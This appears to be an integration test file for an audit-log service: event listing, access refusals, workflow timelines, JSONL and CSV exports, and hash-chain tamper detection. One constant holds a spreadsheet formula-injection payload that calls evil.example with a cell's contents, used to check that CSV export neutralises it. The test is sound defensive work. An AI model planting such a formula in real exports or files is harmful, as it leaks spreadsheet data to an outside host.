// 审计: the audit log, verification, a measure's timeline beside its workflow history, and the exports, through
// the procedures (and the service's export) over a real database and a real worker, as auditors and others see them.
import { sql } from 'kysely';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { auditKeyFrom } from '@liandong/db';
import { signCheckpoint, verifyExport, type ExportLine } from '@liandong/domain/audit';
import type { Actor } from '@liandong/domain';
import { startMeasureStack, type MeasureStack } from '../measure-stack.test-support';
import { AGENCIES, callerFor, createPeople, planInput, reportContent, testHttpBridge, usernameOf, type People } from '../procedures.test-support';
import { CSV_COLUMNS, type HistoryEventView } from '../services/audit';
import { createPlanService, planConfirmInput } from '../services/plans';
import { servicesFor } from '../test-support/context';

let stack: MeasureStack;
let people: People['people'];
let agencies: People['agencies'];
let measureId: string;
let planId: string;
let workflowId: string;
/** 市政务服务数据管理局 (the partner) as the directory names it. */
let partnerName: string;

/** A username typed at the sign-in page as a spreadsheet formula: it reaches the log, and a CSV must not run it. */
const FORMULA = '=hyperlink("http://evil.example/?"&a1,"点我")';

const as = (actor: Actor | null) => callerFor(stack, actor, { http: testHttpBridge() });
const auditor = () => as(people.auditor);

/** What a rejection's code was (tRPC's), or `resolved`. */
async function codeOf(promise: Promise<unknown>): Promise<string> {
  try {
    await promise;
    return 'resolved';
  } catch (error) {
    return String((error as { code?: unknown }).code);
  }
}

async function collect(lines: AsyncIterable<string>): Promise<string[]> {
  const out: string[] = [];
  for await (const line of lines) out.push(line);
  return out;
}

const eventKeyOf = async (id: number) => (await stack.t.db.selectFrom('auditEvents').select('eventKey').where('id', '=', id).executeTakeFirstOrThrow()).eventKey;

beforeAll(async () => {
  stack = await startMeasureStack('api-audit-router');
  ({ people, agencies } = await createPeople(stack));
  const confirmed = await as(people.admin).plan.confirm(
    planInput('审计留痕测试方案', AGENCIES.coordinator, [
      { number: '1', title: '推进审计留痕', lead: AGENCIES.lead, partners: [AGENCIES.partner] },
      { number: '2', title: '另一项措施', lead: AGENCIES.other, partners: [AGENCIES.otherPartner] },
    ]),
  );
  planId = confirmed.planId;
  measureId = (await stack.t.db.selectFrom('measures').select('id').where('planId', '=', planId).where('number', '=', '1').executeTakeFirstOrThrow()).id;
  workflowId = `measure-${measureId}`;
  partnerName = (await stack.t.db.selectFrom('agencies').select('name').where('id', '=', agencies.partner.id).executeTakeFirstOrThrow()).name;

  // The measure's story: the partner accepts, the lead escalates, the partner reports.
  const partner = as(people.officer);
  await partner.measure.acceptAssignment({ measureId, agencyId: agencies.partner.id });
  await as(people.lead).measure.escalate({ measureId, agencyId: agencies.partner.id, reason: '进展滞后' });
  const { cycle } = await stack.service.state(measureId);
  await partner.measure.submitReport({ measureId, agencyId: agencies.partner.id, cycleIndex: cycle.index, content: reportContent() });
  // Someone types a formula as a username at the sign-in page.
  expect(await codeOf(as(null).auth.signIn({ username: FORMULA, password: 'not-the-password-1' }))).toBe('UNAUTHORIZED');
}, 180_000);
afterAll(() => stack?.stop());

describe('the audit log (audit.events)', () => {
  it("lists a measure's events newest first, each with who did it, their agency, the measure and its plan", async () => {
    const { events, nextBefore } = await auditor().audit.events({ measureId, limit: 50 });
    expect(nextBefore).toBeNull();
    expect(events.map((e) => e.id)).toEqual([...events.map((e) => e.id)].sort((a, b) => b - a));
    const actions = events.map((e) => e.action).reverse();
    expect(actions.filter((a) => ['measure.started', 'assignment.accepted', 'escalation.raised', 'report.submitted'].includes(a))).toEqual([
      'measure.started',
      'assignment.accepted',
      'escalation.raised',
      'report.submitted',
    ]);
    const accepted = events.find((e) => e.action === 'assignment.accepted')!;
    expect(accepted).toMatchObject({
      actor: usernameOf('officer'),
      actorName: 'officer',
      actorAgencyId: agencies.partner.id,
      actorAgencyName: partnerName,
      subjectType: expect.any(String),
      measureId,
      measureNumber: '1',
      measureTitle: '推进审计留痕',
      planId,
      planTitle: '审计留痕测试方案',
      payload: { type: 'assignment.accepted', agencyId: agencies.partner.id },
      workflowId,
      runId: expect.stringMatching(/^[0-9a-f-]{36}$/),
    });
    expect(accepted.occurredAt).toBeInstanceOf(Date);
    expect(accepted.hash).toMatch(/^[0-9a-f]{64}$/);
    expect(accepted.prevHash).toMatch(/^[0-9a-f]{64}$/);
    // A timer's or the system's own act: no person behind it.
    expect(events.find((e) => e.action === 'measure.started')).toMatchObject({ actor: 'system', actorName: null, actorAgencyId: null, workflowId });
  });

  it('filters by agency and action together, and pages through the result newest first', async () => {
    const { events } = await auditor().audit.events({ agencyId: agencies.partner.id, action: 'assignment.accepted', limit: 50 });
    expect(events.length).toBeGreaterThan(0);
    expect(events.every((e) => e.actorAgencyId === agencies.partner.id && e.action === 'assignment.accepted')).toBe(true);
    expect(events.some((e) => e.measureId === measureId)).toBe(true);

    const all = (await auditor().audit.events({ measureId, limit: 200 })).events.map((e) => e.id);
    const paged: number[] = [];
    let before: number | undefined;
    for (let pages = 0; pages < all.length; pages++) {
      const page = await auditor().audit.events({ measureId, limit: 2, ...(before ? { before } : {}) });
      expect(page.events.length).toBeLessThanOrEqual(2);
      paged.push(...page.events.map((e) => e.id));
      if (page.nextBefore === null) break;
      expect(page.nextBefore).toBe(page.events.at(-1)!.id);
      before = page.nextBefore;
    }
    expect(paged).toEqual(all);
  });

  it('lists the actions the log holds, sorted, for the filter', async () => {
    const actions = await auditor().audit.actions();
    expect(actions).toEqual(expect.arrayContaining(['measure.started', 'assignment.accepted', 'escalation.raised', 'report.submitted', 'auth.sign_in_failed']));
    expect(actions).toEqual([...actions].sort());
  });

  it('shows an admin the log too, and nobody else: an officer is refused, and the refusal is in the log as access.forbidden', async () => {
    expect(await codeOf(as(people.admin).audit.events({ limit: 1 }))).toBe('resolved');
    expect(await codeOf(as(people.officer).audit.events({ measureId, limit: 10 }))).toBe('FORBIDDEN');
    expect(await codeOf(as(people.coordinator).audit.status())).toBe('FORBIDDEN');
    expect(await codeOf(as(people.lead).audit.timeline({ measureId }))).toBe('FORBIDDEN');
    expect(await codeOf(as(null).audit.events({ limit: 10 }))).toBe('UNAUTHORIZED');

    const { events } = await auditor().audit.events({ action: 'access.forbidden', actor: usernameOf('officer'), limit: 10 });
    expect(events[0]).toMatchObject({
      actor: usernameOf('officer'),
      actorAgencyName: partnerName,
      subjectType: 'measure',
      subjectId: measureId,
      payload: { procedure: 'audit.events', measureId },
    });
    const lead = await auditor().audit.events({ action: 'access.forbidden', actor: usernameOf('lead'), limit: 10 });
    expect(lead.events[0]).toMatchObject({ payload: { procedure: 'audit.timeline' }, measureId });
  });

  it('refuses a filter it cannot take, naming the field', async () => {
    await expect(auditor().audit.events({ planId: 'abc', limit: 10 })).rejects.toMatchObject({ code: 'BAD_REQUEST', message: expect.stringContaining('planId') });
    await expect(auditor().audit.events({ from: '2026-12-31T00:00:00Z', to: '2026-01-01T00:00:00Z', limit: 10 })).rejects.toMatchObject({ code: 'BAD_REQUEST', message: expect.stringContaining('from') });
  });
});

describe("a measure's timeline beside its workflow history (audit.timeline)", () => {
  it('shows the events oldest first and every run of the workflow with its events by name', async () => {
    const timeline = await auditor().audit.timeline({ measureId });
    expect(timeline).toMatchObject({ measureId, workflowId, number: '1', title: '推进审计留痕', planId, planTitle: '审计留痕测试方案' });
    expect(timeline.events.map((e) => e.id)).toEqual([...timeline.events.map((e) => e.id)].sort((a, b) => a - b));
    expect(timeline.runs.length).toBeGreaterThanOrEqual(1);
    const [first] = timeline.runs;
    expect(first!.events[0]).toMatchObject({ eventId: 1, eventType: 'WorkflowExecutionStarted' });
    expect(first!.events[0]!.eventTime).toMatch(/^\d{4}-\d\d-\d\dT/);
    // Payloads read as JSON: the workflow's input names the measure.
    expect(JSON.stringify(first!.events[0]!.attributes)).toContain(measureId);
    expect(first!.events.map((e) => e.eventType)).toEqual(expect.arrayContaining(['WorkflowExecutionUpdateAccepted', 'MarkerRecorded', 'WorkflowExecutionUpdateCompleted']));
  });

  it('links every event the workflow recorded to the history event of the activity that recorded it, in its run', async () => {
    const { events, runs } = await auditor().audit.timeline({ measureId });
    const recorded = events.filter((e) => e.workflowId === workflowId);
    expect(recorded.length).toBeGreaterThanOrEqual(4);
    const historyOf = (ref: { runId: string; eventId: number }): HistoryEventView | undefined => runs.find((r) => r.runId === ref.runId)?.events.find((h) => h.eventId === ref.eventId);
    const linkedBatches = new Map<string, number>();
    for (const event of recorded) {
      expect(event.history, `event ${event.id} ${event.action}`).not.toBeNull();
      expect(event.history!.runId).toBe(event.runId);
      const history = historyOf(event.history!)!;
      // The measure workflow records through a local activity: Temporal writes its completion as a marker.
      expect(history).toMatchObject({ eventType: 'MarkerRecorded', attributes: { markerName: 'core_local_activity', details: { data: [{ activity_type: 'recordMeasureEvents' }] } } });
      const batch = (await eventKeyOf(event.id)).replace(/#\d+$/, '');
      // One batch, one recording; two batches never share one.
      expect(linkedBatches.get(batch) ?? history.eventId).toBe(history.eventId);
      linkedBatches.set(batch, history.eventId);
      // A command's batch is recorded while its update runs: after it was accepted, before it completed.
      const updateId = batch.slice(`${workflowId}/`.length);
      const run = runs.find((r) => r.runId === event.runId)!;
      const accepted = run.events.find((h) => h.eventType === 'WorkflowExecutionUpdateAccepted' && JSON.stringify(h.attributes).includes(`"updateId":"${updateId}"`));
      const completed = run.events.find((h) => h.eventType === 'WorkflowExecutionUpdateCompleted' && JSON.stringify(h.attributes).includes(`"updateId":"${updateId}"`));
      if (event.action === 'measure.started') expect(accepted).toBeUndefined();
      if (['assignment.accepted', 'escalation.raised', 'report.submitted'].includes(event.action)) {
        expect(accepted, `the update behind ${event.action}`).toBeDefined();
        expect(history.eventId).toBeGreaterThan(accepted!.eventId);
        expect(history.eventId).toBeLessThan(completed!.eventId);
      }
    }
    expect(new Set(linkedBatches.values()).size).toBe(linkedBatches.size);
    // Recorded in order: later batches, later markers.
    const markerOrder = [...linkedBatches.values()];
    expect(markerOrder).toEqual([...markerOrder].sort((a, b) => a - b));
  });

  it('follows a measure across continue-as-new: every run beside its events, each event linked into the run that recorded it', async () => {
    // A plan stored three months ago and started only now: its measure races through the missed monthly cycles,
    // continuing as new at each boundary (the workflow's cycles: workflows/src/measure/history.int.test.ts).
    const stored = await createPlanService({ db: stack.t.db, measures: { startWorkflows: async () => ({ measures: 0, withdrawn: 0 }) } }).confirm(
      people.admin!,
      planConfirmInput.parse(planInput('审计跨运行测试方案', AGENCIES.coordinator, [{ number: '1', title: '跨周期措施', lead: AGENCIES.lead, partners: [AGENCIES.partner] }])),
    );
    await sql`update plans set created_at = ${new Date(Date.now() - 100 * 86_400_000)} where id = ${stored.planId}`.execute(stack.t.db);
    await stack.service.startWorkflows(stored.planId);
    const old = (await stack.t.db.selectFrom('measures').select('id').where('planId', '=', stored.planId).executeTakeFirstOrThrow()).id;
    const oldWorkflowId = `measure-${old}`;
    for (const began = Date.now(); (await stack.service.state(old)).cycle.index < 2; ) {
      if (Date.now() - began > 60_000) throw new Error('the measure did not reach its third cycle');
      await new Promise((resolve) => setTimeout(resolve, 200));
    }

    const { events, runs } = await auditor().audit.timeline({ measureId: old });
    const recorded = events.filter((e) => e.workflowId === oldWorkflowId);
    const runsNamed = new Set(recorded.map((e) => e.runId));
    expect(runsNamed.size).toBeGreaterThanOrEqual(2);
    // Every run the log names is on the page, oldest first, the first one continued as new.
    for (const runId of runsNamed) expect(runs.map((r) => r.runId)).toContain(runId);
    expect(runs.map((r) => r.startTime)).toEqual([...runs.map((r) => r.startTime)].sort());
    expect(runs[0]!.status).toBe('CONTINUED_AS_NEW');
    expect(runs[0]!.events.at(-1)!.eventType).toBe('WorkflowExecutionContinuedAsNew');
    for (const event of recorded) {
      expect(event.history, `event ${event.id} ${event.action}`).toMatchObject({ runId: event.runId });
      const run = runs.find((r) => r.runId === event.runId)!;
      expect(run.events.find((h) => h.eventId === event.history!.eventId)).toMatchObject({ eventType: 'MarkerRecorded', attributes: { details: { data: [{ activity_type: 'recordMeasureEvents' }] } } });
    }
  });

  it('links no refusal to the history: the workflow never saw it', async () => {
    const { events } = await auditor().audit.timeline({ measureId });
    const refusals = events.filter((e) => e.action === 'access.forbidden');
    expect(refusals.length).toBeGreaterThan(0);
    expect(refusals.every((e) => e.history === null)).toBe(true);
  });

  it('answers NOT_FOUND for a measure that does not exist', async () => {
    expect(await codeOf(auditor().audit.timeline({ measureId: '00000000-0000-4000-8000-000000000000' }))).toBe('NOT_FOUND');
    expect(await codeOf(stack.services.audit.historyJson(people.auditor!, '00000000-0000-4000-8000-000000000000'))).toBe('NOT_FOUND');
  });

  it('gives the raw history of every run as one JSON document', async () => {
    const doc = JSON.parse(await stack.services.audit.historyJson(people.auditor!, measureId)) as {
      workflowId: string;
      measureId: string;
      exportedAt: string;
      runs: { runId: string; status: string; startTime: string; closeTime: string | null; history: { events: { eventId: string; eventType: string }[] } }[];
    };
    expect(doc).toMatchObject({ workflowId, measureId, exportedAt: expect.stringMatching(/Z$/) });
    const { runs } = await auditor().audit.timeline({ measureId });
    expect(doc.runs.map((r) => r.runId)).toEqual(runs.map((r) => r.runId));
    expect(doc.runs[0]).toMatchObject({ status: 'RUNNING', closeTime: null });
    expect(doc.runs[0]!.history.events[0]).toMatchObject({ eventId: '1', eventType: 'EVENT_TYPE_WORKFLOW_EXECUTION_STARTED' });
    expect(await codeOf(stack.services.audit.historyJson(people.coordinator!, measureId))).toBe('FORBIDDEN');
  });
});

// ---- exports -------------------------------------------------------------------

/** The export as `liandong audit verify` checks it (no database, no network), and its event and end lines. */
async function checkExport(lines: string[], key?: Buffer) {
  const verification = await verifyExport(lines, key ? { key } : {});
  expect(verification).toMatchObject({ ok: true });
  const parsed = lines.map((line) => JSON.parse(line) as ExportLine);
  const end = parsed.at(-1)!;
  if (end.type !== 'end') throw new Error('the last line is not the end line');
  return { verification, events: parsed.filter((l) => l.type === 'event'), end };
}

/** RFC 4180: fields in double quotes may hold commas, quotes (doubled) and line breaks. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i]!;
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ',') {
      row.push(cell);
      cell = '';
    } else if (ch === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else cell += ch;
  }
  if (cell !== '' || row.length > 0) rows.push([...row, cell]);
  return rows;
}

describe('exports', () => {
  it("writes a measure's events as JSON Lines that verify offline: matched events whole, the rest as gaps, from genesis", async () => {
    const { events: listed } = await auditor().audit.events({ measureId, limit: 200 });
    const lines = await collect(await stack.services.audit.exportLines(people.auditor!, { measureId }, 'jsonl'));
    const { events, end, verification } = await checkExport(lines);
    expect(verification).toMatchObject({ signature: 'none', events: events.length, omitted: end.omitted });
    expect(events.map((e) => e.id)).toEqual(listed.map((e) => e.id).reverse());
    expect(events.every((e) => e.measure_id === measureId)).toBe(true);
    expect(end.omitted).toBeGreaterThan(0);
    expect(JSON.parse(lines[0]!)).toMatchObject({ exported_by: usernameOf('auditor'), filter: { measureId } });
    // Without the audit key and never anchored: the file runs to the head, the export's own record included.
    expect(end.checkpoint).toBeNull();
    const [exported] = (await auditor().audit.events({ action: 'audit.exported', limit: 1 })).events;
    expect(exported).toMatchObject({ actor: usernameOf('auditor'), payload: { format: 'jsonl', filter: { measureId } } });
    const status = await auditor().audit.status();
    expect(end).toMatchObject({ last_hash: status.head!.hash });
    expect(events.length + end.omitted).toBe(status.events);
    expect(status.head!.id).toBe(exported!.id);
  });

  it('writes CSV with a BOM and a header, a row per matched event, and a username typed as a formula neutralised', async () => {
    const lines = await collect(await stack.services.audit.exportLines(people.auditor!, { action: 'auth.sign_in_failed' }, 'csv'));
    expect(lines[0]).toBe(`\uFEFF${CSV_COLUMNS.join(',')}`);
    expect(lines[0]).toBe('\uFEFFid,occurred_at,actor,actor_name,agency,action,subject_type,subject_id,plan,measure_number,measure_title,payload,workflow_id,run_id,prev_hash,hash');
    const rows = parseCsv(lines.slice(1).join('\r\n'));
    const { events } = await auditor().audit.events({ action: 'auth.sign_in_failed', limit: 200 });
    expect(rows.map((r) => Number(r[0]))).toEqual(events.map((e) => e.id).reverse());
    expect(rows.every((r) => r.length === CSV_COLUMNS.length)).toBe(true);
    const formula = rows.find((r) => r[7]!.includes('hyperlink'))!;
    expect(formula[7]).toBe(`'${FORMULA}`);
    expect(formula.every((cell) => !/^[=+\-@\t\r]/.test(cell))).toBe(true);
    expect(formula[2]).toBe('anonymous');
    expect(formula[1]).toMatch(/^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}\+08:00$/);
    expect(JSON.parse(formula[11]!)).toMatchObject({ username: FORMULA, reason: expect.any(String) });

    const measureRows = parseCsv((await collect(await stack.services.audit.exportLines(people.auditor!, { measureId, action: 'assignment.accepted' }, 'csv'))).slice(1).join('\r\n'));
    expect(measureRows).toHaveLength(1);
    const cells = Object.fromEntries(CSV_COLUMNS.map((c, i) => [c, measureRows[0]![i]]));
    expect(cells).toMatchObject({ actor: usernameOf('officer'), actor_name: 'officer', agency: partnerName, action: 'assignment.accepted', plan: '审计留痕测试方案', measure_number: '1', measure_title: '推进审计留痕', workflow_id: workflowId });
  });

  it('refuses an officer before the first line and records no export', async () => {
    const before = (await auditor().audit.events({ action: 'audit.exported', limit: 200 })).events.length;
    expect(await codeOf(stack.services.audit.exportLines(people.officer!, {}, 'jsonl'))).toBe('FORBIDDEN');
    expect(await codeOf(stack.services.audit.exportLines(people.lead!, {}, 'csv'))).toBe('FORBIDDEN');
    expect((await auditor().audit.events({ action: 'audit.exported', limit: 200 })).events.length).toBe(before);
  });
});

const firstEventId = async () => (await stack.t.db.selectFrom('auditEvents').select((eb) => eb.fn.min('id').as('id')).executeTakeFirstOrThrow()).id as number;

describe('verification (audit.verify)', () => {
  it('verifies the whole chain, records the verification, and the status then shows it', async () => {
    const { events: count } = await auditor().audit.status();
    const result = await auditor().audit.verify({ from: 'start' });
    expect(result).toMatchObject({ ok: true, from: 'start', checked: count, anchor: null });
    expect(result.range).toMatchObject({ firstId: await firstEventId() });
    const status = await auditor().audit.status();
    expect(status.events).toBe(count + 1);
    expect(status.keyConfigured).toBe(false);
    expect(status.lastVerification).toEqual({ eventId: result.eventId, at: result.verifiedAt, actor: usernameOf('auditor'), from: 'start', ok: true, checked: count, brokenAt: null, reason: null });
    const [recorded] = (await auditor().audit.events({ action: 'audit.verified', limit: 1 })).events;
    expect(recorded).toMatchObject({ id: result.eventId, subjectType: 'audit_chain', payload: { ok: true, from: 'start', checked: count, range: { lastId: result.range!.lastId } } });
  });

  it('with the audit key: an export anchors the head in a signed checkpoint, and verification checks its signature', async () => {
    const auditKey = auditKeyFrom('a-test-audit-key-of-at-least-32-characters');
    const keyed = servicesFor({ ...stack.deps, auditKey });
    const lines = await collect(await keyed.audit.exportLines(people.auditor!, { action: 'assignment.accepted' }, 'jsonl'));
    const { end, verification } = await checkExport(lines, auditKey.key);
    expect(verification).toMatchObject({ signature: 'verified' });
    const checkpoint = end.checkpoint!;
    expect(checkpoint).toMatchObject({ seq: 1, key_id: auditKey.id, previous_signature: null });
    const { head } = await keyed.audit.status(people.auditor!);
    expect(checkpoint.last_event_id).toBe(head!.id);
    const signed = { seq: checkpoint.seq, lastEventId: checkpoint.last_event_id, lastHash: checkpoint.last_hash, eventCount: checkpoint.event_count, recordedAt: new Date(checkpoint.recorded_at), keyId: checkpoint.key_id };
    expect(signCheckpoint(auditKey.key, signed, checkpoint.previous_signature)).toBe(checkpoint.signature);

    const verified = await keyed.audit.verify(people.auditorAdmin!, { from: 'checkpoint' });
    expect(verified).toMatchObject({ ok: true, from: 'checkpoint', anchor: { seq: 1, signature: 'verified' } });
    const status = await keyed.audit.status(people.auditor!);
    expect(status).toMatchObject({ keyConfigured: true, checkpoint: { seq: 1, lastEventId: checkpoint.last_event_id }, lastVerification: { eventId: verified.eventId, from: 'checkpoint', ok: true } });

    // A second export names the first checkpoint's signature, which the second one's covers.
    const again = await checkExport(await collect(await keyed.audit.exportLines(people.auditor!, {}, 'jsonl')), auditKey.key);
    expect(again.end.checkpoint).toMatchObject({ seq: 2, previous_signature: checkpoint.signature });
    expect(again.end.omitted).toBe(0);
  });

  it("names the event whose payload was changed behind the app's back, and records the failure", async () => {
    const [accepted] = (await auditor().audit.events({ measureId, action: 'assignment.accepted', limit: 1 })).events;
    // As the table's owner: switch the append-only trigger off, change one payload, switch it on again.
    await stack.t.db.transaction().execute(async (trx) => {
      await sql`alter table audit_events disable trigger user`.execute(trx);
      await sql`update audit_events set payload = jsonb_set(payload, '{agencyId}', '999') where id = ${accepted!.id}`.execute(trx);
      await sql`alter table audit_events enable trigger user`.execute(trx);
    });
    const result = await auditor().audit.verify({ from: 'start' });
    expect(result).toMatchObject({ ok: false, brokenAt: accepted!.id, reason: 'its content does not match its hash' });
    const status = await auditor().audit.status();
    expect(status.lastVerification).toMatchObject({ eventId: result.eventId, ok: false, brokenAt: accepted!.id, reason: 'its content does not match its hash' });
    const [recorded] = (await auditor().audit.events({ action: 'audit.verified', limit: 1 })).events;
    expect(recorded!.payload).toMatchObject({ ok: false, brokenAt: accepted!.id });
  });
});
